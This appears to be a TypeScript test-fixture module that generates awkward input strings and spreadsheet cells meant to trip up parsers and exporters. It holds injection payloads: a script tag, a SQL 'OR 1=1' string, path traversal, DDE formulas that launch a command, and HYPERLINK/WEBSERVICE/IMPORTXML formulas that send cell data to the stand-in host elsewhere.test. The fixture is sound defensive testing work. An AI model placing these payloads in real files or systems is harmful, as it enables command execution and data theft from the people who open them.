// Texts that programs stumble over, each once, made from parts: signs that mean something to tables, to the web and to people's eyes. Pure.

const PARTS = [
  '',
  'a',
  '"',
  "'",
  ',',
  ';',
  '|',
  '\t',
  '\n',
  '\\',
  '""',
  '","',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\u200b',
  '\u202e',
  '\ufeff',
  '😀',
  '👩‍👩‍👧',
  'مرحبا',
  '漢字',
  'ß',
  'İ',
  '\u0301',
  'null',
  'NaN',
  'undefined',
  '__proto__',
  'true',
  '1e309',
  '0x1F',
  '<script>alert(1)</script>',
  '&amp;',
  '%00',
  '${x}',
  '{{x}}',
  '../x',
  "' OR 1=1 --",
  '\u00a0',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  "'=1",
  "''",
];

/** At least 515 texts of some part between two others, none with blanks at its ends, as the library keeps them. */
export function naughtyStrings(): readonly string[] {
  const texts = new Set<string>();
  for (const first of PARTS) for (const second of PARTS) texts.add(`${first}${second}`.trim());
  texts.delete('');
  return [...texts];
}

const DANGEROUS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', ' =', '\n=', '\u00a0='];
const FORMULAS = [
  '1+1',
  "cmd|'/c calc'!A1",
  'HYPERLINK("http://elsewhere.test/?"&A1)',
  'WEBSERVICE("http://elsewhere.test")',
  'DDE("cmd";"/c calc")',
  'IMPORTXML("http://elsewhere.test","//a")',
  'SUM(A1:A9)',
  '1',
];

/** At least 100 cells that a spreadsheet would reckon out. */
export const DANGEROUS_CELLS: readonly string[] = DANGEROUS.flatMap((sign) =>
  FORMULAS.map((formula) => `${sign}${formula}`),
);
